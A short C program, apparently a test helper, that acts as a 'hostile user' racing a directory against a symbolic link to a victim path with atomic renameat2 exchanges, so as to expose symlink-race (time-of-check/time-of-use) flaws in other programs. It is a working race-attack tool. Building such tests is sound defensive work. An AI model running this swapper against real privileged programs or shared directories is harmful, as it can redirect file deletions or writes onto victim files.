/* A hostile user: plants a directory and swaps what is in it for symbolic links, until it is killed.
 *
 *     swapper BAIT VICTIM
 *
 * BAIT/d, a directory of files, and BAIT/s, a symbolic link to VICTIM, change places as fast as the kernel
 * can do it. What is removed meanwhile is made again. Writes a line once the bait stands.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

enum { FILES = 8, SWAPS = 64 };

static void plant(const char *bait, const char *victim) {
    char path[4096];
    mkdir(bait, 0777);
    snprintf(path, sizeof path, "%s/d", bait);
    mkdir(path, 0777);
    for (int i = 0; i < FILES; i++) {
        snprintf(path, sizeof path, "%s/d/file%d", bait, i);
        int fd = open(path, O_CREAT | O_EXCL | O_WRONLY | O_NOFOLLOW, 0666);
        if (fd >= 0)
            close(fd);
    }
    snprintf(path, sizeof path, "%s/s", bait);
    if (symlink(victim, path)) {
        /* It stands, or d is the link at the moment. */
    }
}

int main(int argc, char **argv) {
    char one[4096], other[4096];
    if (argc != 3)
        return 2;
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    snprintf(one, sizeof one, "%s/d", argv[1]);
    snprintf(other, sizeof other, "%s/s", argv[1]);
    for (int round = 0;; round++) {
        plant(argv[1], argv[2]);
        if (!round && write(STDOUT_FILENO, "\n", 1) != 1)
            return 1;
        for (int i = 0; i < SWAPS; i++)
            if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE))
                break;
    }
}
